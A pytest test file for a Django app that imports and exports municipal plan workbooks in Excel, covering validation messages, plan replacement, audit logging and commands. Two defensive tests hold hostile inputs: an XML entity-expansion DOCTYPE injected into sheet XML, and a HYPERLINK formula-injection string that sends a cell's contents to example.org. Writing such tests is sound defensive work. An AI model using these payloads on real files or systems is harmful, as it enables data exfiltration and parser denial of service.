"""The plan workbook: template, import of a filled-in template, faults listed cell by cell and
nothing changed, replacing a plan, and the file format's documentation."""

from __future__ import annotations

import datetime
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from styrkedja.activities.models import Activity
from styrkedja.audit.models import AuditEntry
from styrkedja.followup.models import ActivityReport
from styrkedja.goals.models import Goal
from styrkedja.plandata.exporter import plan_data
from styrkedja.plans.models import Plan
from styrkedja.tenancy.models import Municipality
from styrkedja.workbook.choices import ImportMode
from styrkedja.workbook.errors import WorkbookInvalid
from styrkedja.workbook.format import INSTRUCTIONS, SHEETS
from styrkedja.workbook.services import workbook_export, workbook_import, workbook_template

pytestmark = pytest.mark.django_db


def _open(content: bytes):
    return load_workbook(io.BytesIO(content))


def _save(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _counts() -> tuple[int, ...]:
    return (
        Municipality.objects.count(),
        Plan.objects.count(),
        Goal.objects.count(),
        Activity.objects.count(),
        ActivityReport.objects.count(),
        AuditEntry.objects.count(),
    )


def _append(workbook, sheet: str, **values) -> None:
    """A row by header, as a person fills in the template."""
    worksheet = workbook[sheet]
    headers = [cell.value for cell in worksheet[1]]
    row = [values.pop(header, None) for header in headers]
    assert not values, f"unknown columns {values} on {sheet}"
    worksheet.append(row)


def test_the_template_has_every_sheet_with_its_headers_and_instructions():
    workbook = _open(workbook_template())
    assert workbook.sheetnames == [INSTRUCTIONS, *(sheet.name for sheet in SHEETS)]
    for sheet in SHEETS:
        assert [cell.value for cell in workbook[sheet.name][1]] == [c.header for c in sheet.columns]
        assert workbook[sheet.name].max_row == 1
    instructions = "\n".join(str(cell.value) for row in workbook[INSTRUCTIONS].iter_rows() for cell in row)
    for sheet in SHEETS:
        assert sheet.help in instructions
    # Choices come with a drop-down list of the Swedish words.
    lists = [v.formula1 for v in workbook["Aktivitetsrapporter"].data_validations.dataValidation]
    assert '"Ej inledd,Pågår,Klart"' in lists


def test_a_municipalitys_template_holds_its_organisation(mjolby):
    workbook = _open(workbook_template(municipality=mjolby))
    units = [row[0] for row in workbook["Enheter"].iter_rows(min_row=2, values_only=True)]
    assert "Kommunstyrelsen" in units and "Kommunledningskontoret" in units
    levels = [row[0] for row in workbook["Målnivåer"].iter_rows(min_row=2, values_only=True)]
    assert levels == list(mjolby.goal_levels.order_by("depth").values_list("key", flat=True))
    assert workbook["Plan"].max_row == 1 and workbook["Aktiviteter"].max_row == 1


def test_a_filled_in_template_creates_the_plan(mjolby):
    workbook = _open(workbook_template(municipality=mjolby))
    _append(workbook, "Plan", **{"Nämnd": "Kommunstyrelsen", "År": 2030, "Titel": "Verksamhetsplan 2030",
            "Budgetperiod från": 2030, "Budgetperiod till": 2032})  # fmt: skip
    _append(workbook, "Perioder", Kod="T1", **{"Avser per": datetime.date(2030, 4, 30), "Öppnad": "ja"})
    _append(workbook, "Perioder", Kod="T2", **{"Avser per": "2030-08-31", "Öppnad": "nej"})
    _append(workbook, "Mål", Nyckel="trygg", Nivå="kf", Nummer=1, Mål="En trygg kommun.",
            **{"Bidrar till": "livsmiljo", "Agenda 2030": "11; 16"})  # fmt: skip
    _append(workbook, "Indikatorer", Nr="i1", Mål="trygg", Indikator="Andel trygga", Enhet="%",
            Måltyp="Minst ett värde", Målnivå="75,5")  # fmt: skip
    _append(workbook, "Indikatorvärden", Indikator="i1", År=2029, Värde="72,4")
    _append(workbook, "Indikatorvärden", Indikator="i1", År=2029, Avser="Riket", Värde=70)
    _append(workbook, "Aktiviteter", Nr=1, Mål="trygg", Aktivitet="Fler trygghetsvandringar", Typ="A",
            Ansvarig="Kommunledningskontoret", Medansvariga="Sbf")  # fmt: skip
    _append(workbook, "Aktiviteter", Nr=2, Aktivitet="Särskild satsning på belysning", Typ="Projekt",
            Ansvarig="Kommunledningskontoret", Prioritet="Angeläget")  # fmt: skip
    _append(workbook, "Samverkan", Aktivitet=1, **{"Extern part": "Polisen"})
    _append(workbook, "Samverkan", Aktivitet=1, Fritext="Föreningslivet")
    _append(
        workbook, "Aktivitetsrapporter", Aktivitet=1, Period="t1", Status="Pågår", Kommentar="Två gjorda."
    )

    result = workbook_import(municipality=mjolby, content=_save(workbook), filename="mall.xlsx")

    plan = result.plan
    assert (plan.name, plan.title, result.replaced) == ("mjolby/ks/2030", "Verksamhetsplan 2030", False)
    assert [(p.code, p.is_open) for p in plan.periods.order_by("code")] == [("T1", True), ("T2", False)]
    goal = plan.goals.get(key="trygg")
    assert [g.key for g in goal.contributes_to.all()] == ["livsmiljo"]
    assert sorted(goal.sdgs.values_list("number", flat=True)) == [11, 16]
    indicator = goal.indicators.get()
    assert (indicator.target_kind, indicator.target_value) == ("at_least", Decimal("75.5"))
    assert sorted(indicator.values.values_list("scope", "value")) == [
        ("municipality", Decimal("72.4")),
        ("nation", Decimal("70")),
    ]
    first, special = plan.activities.order_by("order")
    assert (first.goal, first.kind, first.responsible_unit.name) == (goal, "A", "Kommunledningskontoret")
    assert [u.short_name for u in first.co_responsible_units.all()] == ["Sbf"]
    assert [str(c) for c in first.collaborators.order_by("order")] == ["Polisen", "Föreningslivet"]
    assert (special.goal, special.is_special_initiative, special.kind, special.priority) == (
        None, True, "P", "angelaget",
    )  # fmt: skip
    report = first.reports.get()
    assert (report.period.code, report.status, report.comment) == ("T1", "ongoing", "Två gjorda.")
    entry = AuditEntry.objects.get(action="workbook.plan.imported", object_id=str(plan.pk))
    assert entry.data == {"file": "mall.xlsx", "replaced": False}


def _faulty(content: bytes) -> tuple[bytes, set[tuple[str, int | None, str]]]:
    """The Mjölby workbook with a fault of each kind; the (sheet, row, column) each should be reported at."""
    workbook = _open(content)
    expected = set()

    def put(sheet: str, cell: str, value, column: str) -> None:
        worksheet = workbook[sheet]
        worksheet[cell] = value
        expected.add((sheet, worksheet[cell].row, column))

    put("Perioder", "C2", "30 april", "Avser per")  # not a date
    put("Mål", "D3", "x" * 21, "Nummer")  # too long
    put("Indikatorvärden", "E2", "mycket", "Värde")  # not a number
    put("Indikatorvärden", "B3", 1700, "År")  # not a year
    put("Indikatorvärden", "E4", "1,2345", "Värde")  # too many decimals
    put("Aktiviteter", "F4", "Okänd enhet", "Ansvarig")  # unknown unit
    put("Aktiviteter", "B6", "finnsinte", "Mål")  # unknown goal
    put("Aktiviteter", "C7", None, "Aktivitet")  # required
    put("Aktivitetsrapporter", "C3", "Klar2", "Status")  # not a status
    put("Aktivitetsrapporter", "B5", "T9", "Period")  # unknown period
    put("Aktivitetsrapporter", "A6", 999, "Aktivitet")  # unknown activity
    workbook["Samverkan"]["B2"], workbook["Samverkan"]["C2"] = "Kommunledningskontoret", None
    put("Samverkan", "D2", "Och en fritext", "Fritext")  # two of unit/partner/text
    put("Perioder", "E2", "kanske", "Öppnad")  # not yes/no
    workbook["Ramar"].cell(row=workbook["Ramar"].max_row + 1, column=1, value="Ingen sektor")
    expected.add(("Ramar", workbook["Ramar"].max_row, "Sektor"))
    expected.add(("Ramar", workbook["Ramar"].max_row, "År"))  # required, left empty
    expected.add(("Ramar", workbook["Ramar"].max_row, "Slag"))
    expected.add(("Ramar", workbook["Ramar"].max_row, "Belopp"))
    return _save(workbook), expected


def test_a_faulty_workbook_lists_every_fault_by_sheet_row_and_column_and_changes_nothing(mjolby_plan):
    content, expected = _faulty(workbook_export(plan=mjolby_plan))
    target = Municipality.objects.create(slug="tom", name="Tom kommun")
    before = _counts()
    with pytest.raises(WorkbookInvalid) as raised:
        workbook_import(municipality=target, content=content, filename="fel.xlsx")
    found = {(error.sheet, error.row, error.column) for error in raised.value.errors}
    assert expected <= found, expected - found
    # Nothing else: every reported fault is one that was made.
    assert found - expected <= {("Aktivitetsrapporter", 6, "Aktivitet")}, found - expected
    assert _counts() == before
    messages = {(e.sheet, e.row, e.column): str(e) for e in raised.value.errors}
    assert messages[("Aktivitetsrapporter", 3, "Status")] == (
        "Bladet ”Aktivitetsrapporter”, rad 3, kolumn C ”Status”: ”Klar2” är inte ett tillåtet värde. "
        "Tillåtna värden: ”Ej inledd”, ”Pågår”, ”Klart”."
    )
    assert messages[("Perioder", 2, "Avser per")].endswith(
        "”30 april” är inget datum. Skriv datum som ÅÅÅÅ-MM-DD."
    )
    assert "enheten ”Okänd enhet” finns inte" in messages[("Aktiviteter", 4, "Ansvarig")]
    # The faults come in the workbook's order, sheet by sheet and row by row.
    order = [sheet.name for sheet in SHEETS]
    keys = [(order.index(e.sheet), e.row or 0) for e in raised.value.errors]
    assert keys == sorted(keys)


def test_a_faulty_workbook_leaves_the_plan_it_would_replace_untouched(mjolby_plan):
    content, _ = _faulty(workbook_export(plan=mjolby_plan))
    before, data = _counts(), plan_data(mjolby_plan)
    with pytest.raises(WorkbookInvalid):
        workbook_import(
            municipality=mjolby_plan.municipality, content=content, filename="f.xlsx", mode=ImportMode.REPLACE
        )
    assert _counts() == before
    assert plan_data(Plan.objects.get(pk=mjolby_plan.pk)) == data


def test_an_existing_plan_is_replaced_only_when_asked_and_its_content_kept_in_the_audit_log(mjolby_plan):
    following = Plan.objects.get(municipality=mjolby_plan.municipality, year=2025)
    assert following.carried_over_from == mjolby_plan
    assert following.activities.exclude(carried_over_from=None).count() == 13
    workbook = _open(workbook_export(plan=mjolby_plan))
    workbook["Plan"]["C2"] = "Verksamhetsplan 2024, reviderad"
    content = _save(workbook)
    old = plan_data(mjolby_plan)
    with pytest.raises(WorkbookInvalid) as raised:
        workbook_import(municipality=mjolby_plan.municipality, content=content, filename="ny.xlsx")
    (error,) = raised.value.errors
    assert "planen mjolby/ks/2024 finns redan" in str(error)

    result = workbook_import(municipality=mjolby_plan.municipality, content=content, filename="ny.xlsx",
                             mode=ImportMode.REPLACE)  # fmt: skip
    assert result.replaced and result.plan.title == "Verksamhetsplan 2024, reviderad"
    assert result.plan.pk == mjolby_plan.pk
    new = plan_data(result.plan)
    assert new["plans"][0] | {"title": old["plans"][0]["title"]} == old["plans"][0]
    # Next year's plan, made by carry-over, still comes from this one, activity by activity.
    following = Plan.objects.get(municipality=mjolby_plan.municipality, year=2025)
    assert following.carried_over_from == result.plan
    carried = following.activities.exclude(carried_over_from=None).select_related("carried_over_from")
    assert carried.count() == 13
    for activity in carried:
        assert activity.carried_over_from.plan == result.plan
        assert activity.carried_over_from.title == activity.title
    entry = AuditEntry.objects.get(action="workbook.plan.imported", object_id=str(result.plan.pk))
    assert entry.data["replaced"] is True
    assert entry.data["previous"]["plans"][0]["title"] == "Verksamhetsplan 2024"
    assert len(entry.data["previous"]["plans"][0]["goals"]) == len(old["plans"][0]["goals"])


def test_a_file_that_is_not_a_workbook_gets_one_clear_message(mjolby):
    with pytest.raises(WorkbookInvalid) as raised:
        workbook_import(municipality=mjolby, content=b"%PDF-1.7 not a workbook", filename="plan.pdf")
    (error,) = raised.value.errors
    assert str(error).startswith("Arbetsboken: filen går inte att läsa som en Excel-arbetsbok (.xlsx).")


def test_a_workbook_with_an_xml_bomb_is_refused_unread(mjolby_plan):
    """openpyxl parses with defusedxml: entities in a sheet are refused, not expanded."""
    source = zipfile.ZipFile(io.BytesIO(workbook_export(plan=mjolby_plan)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                data = laughs.encode() + data
            bomb.writestr(item, data)
    before = _counts()
    with pytest.raises(WorkbookInvalid) as raised:
        workbook_import(municipality=mjolby_plan.municipality, content=buffer.getvalue(), filename="b.xlsx")
    (error,) = raised.value.errors
    assert str(error) == (
        "Arbetsboken: bladet ”Anvisningar” har en dokumenttypsdeklaration (DOCTYPE), "
        "som Office-filer aldrig har."
    )
    assert _counts() == before


def test_headers_are_checked_missing_unknown_and_twice(mjolby_plan):
    workbook = _open(workbook_export(plan=mjolby_plan))
    workbook["Aktiviteter"]["C1"] = "Aktivitetens namn"  # a required column renamed
    workbook["Mål"]["N1"] = "Egen kolumn"
    workbook["Perioder"]["I1"] = "Kod"
    with pytest.raises(WorkbookInvalid) as raised:
        workbook_import(municipality=mjolby_plan.municipality, content=_save(workbook), filename="x.xlsx",
                        mode=ImportMode.REPLACE)  # fmt: skip
    messages = [str(error) for error in raised.value.errors]
    assert (
        "Bladet ”Aktiviteter”, rad 1, kolumn ”Aktivitet”: saknas i rubrikraden men måste finnas på bladet."
        in (messages)
    )
    assert any(
        m.startswith("Bladet ”Aktiviteter”, rad 1, kolumn C ”Aktivitetens namn”: är ingen kolumn")
        for m in messages
    )
    assert any(m.startswith("Bladet ”Mål”, rad 1, kolumn N ”Egen kolumn”: är ingen kolumn") for m in messages)
    assert "Bladet ”Perioder”, rad 1, kolumn I ”Kod”: finns två gånger i rubrikraden." in messages


def test_a_text_that_looks_like_a_formula_stays_a_text(mjolby_plan):
    titles = ['=HYPERLINK("http://example.org?d="&B2,"Se bilaga")', "+46 142 850 00", "-5 % i kostnader",
              "@kommunstyrelsen", "#N/A"]  # fmt: skip
    activities = list(mjolby_plan.activities.order_by("order")[: len(titles)])
    for activity, title in zip(activities, titles, strict=True):
        activity.title = title
        activity.save()
    content = workbook_export(plan=mjolby_plan)
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    cells = [row[2] for row in _open(content)["Aktiviteter"].iter_rows(min_row=2, max_row=len(titles) + 1)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(title, "s") for title in titles]
    # Excel's quote prefix keeps the text a text when someone edits the cell.
    assert [cell.quotePrefix for cell in cells] == [True, True, True, True, False]
    target = Municipality.objects.create(slug="kopia", name="Kopia")
    plan = workbook_import(municipality=target, content=content, filename="x.xlsx").plan
    assert list(plan.activities.order_by("order").values_list("title", flat=True)[: len(titles)]) == titles


def test_the_commands_export_and_import(mjolby_plan, tmp_path):
    path = tmp_path / "plan.xlsx"
    out = io.StringIO()
    call_command("export_workbook", "mjolby/ks/2024", "-o", str(path), stdout=out)
    assert "Skrev arbetsboken för mjolby/ks/2024" in out.getvalue()
    call_command("import_workbook", str(path), "--municipality", "ny-kommun", stdout=out)
    assert "Läste in ny-kommun/ks/2024 (Verksamhetsplan 2024)." in out.getvalue()
    assert Municipality.objects.get(slug="ny-kommun").name == "Mjölby kommun"
    with pytest.raises(
        CommandError, match=r"Inget lästes in\. 1 fel:\n  Bladet ”Plan”, rad 2, kolumn B ”År”: planen"
    ):
        call_command("import_workbook", str(path), "--municipality", "ny-kommun")
    call_command("import_workbook", str(path), "--municipality", "ny-kommun", "--update", stdout=out)
    assert (
        "Uppdaterade ny-kommun/ks/2024: 0 aktivitetsrapporter och 0 målrapporter ändrades." in out.getvalue()
    )
    template = tmp_path / "mall.xlsx"
    call_command("export_workbook", "--template", "-o", str(template), stdout=out)
    assert load_workbook(template).sheetnames[0] == INSTRUCTIONS
    with pytest.raises(CommandError, match="har ingen rad med planen"):
        call_command("import_workbook", str(template), "--municipality", "ny-kommun")


def test_an_empty_workbook_names_what_is_missing():
    workbook = Workbook()
    workbook.active.title = "Plan"
    target = Municipality(slug="helt-ny")
    with pytest.raises(WorkbookInvalid) as raised:
        workbook_import(municipality=target, content=_save(workbook), filename="tom.xlsx")
    messages = [str(error) for error in raised.value.errors]
    assert "Bladet ”Målnivåer”: är tomt, och kommunen har inga målnivåer än." in messages
    assert "Bladet ”Plan”: har ingen rad med planen: bladet saknas eller är tomt." in messages
    assert not Municipality.objects.filter(slug="helt-ny").exists()


def test_the_documentation_names_every_sheet_and_column():
    text = (Path(__file__).resolve().parents[3] / "docs" / "workbook-format.md").read_text(encoding="utf-8")
    for sheet in SHEETS:
        assert f"### {sheet.name}\n" in text
        for column in sheet.columns:
            assert f"| {column.header} |" in text, (sheet.name, column.header)
